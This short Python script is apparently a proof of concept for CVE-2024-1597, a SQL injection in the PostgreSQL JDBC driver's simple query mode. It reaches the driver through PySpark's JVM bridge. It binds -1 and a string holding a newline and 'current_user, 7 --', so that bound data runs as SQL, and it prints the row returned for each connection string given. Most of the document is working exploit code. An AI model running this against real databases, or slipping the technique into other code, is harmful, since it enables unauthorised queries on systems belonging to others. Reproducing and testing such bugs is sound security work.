"""Binds data that would be SQL in the driver's simple query mode (CVE-2024-1597), and prints the row that comes back.

Arguments: what stands behind JDBC_URL, tried one after another. User and password: PGUSER, PGPASSWORD.
"""

import os
import sys

from pyspark.sql import SparkSession

jvm = SparkSession.builder.master("local[1]").getOrCreate()._jvm
properties = jvm.java.util.Properties()
properties.setProperty("user", os.environ["PGUSER"])
properties.setProperty("password", os.environ["PGPASSWORD"])
for parameters in sys.argv[1:]:
    connection = jvm.org.postgresql.Driver().connect(os.environ["JDBC_URL"] + parameters, properties)
    # With -1 in its text, the first minus and its own begin a comment, and what follows the line feed is SQL.
    statement = connection.prepareStatement("select -?, ?")
    statement.setInt(1, -1)
    statement.setString(2, "\ncurrent_user, 7 --")
    row = statement.executeQuery()
    row.next()
    print("row:", repr(row.getString(1)), repr(row.getString(2)))
    connection.close()
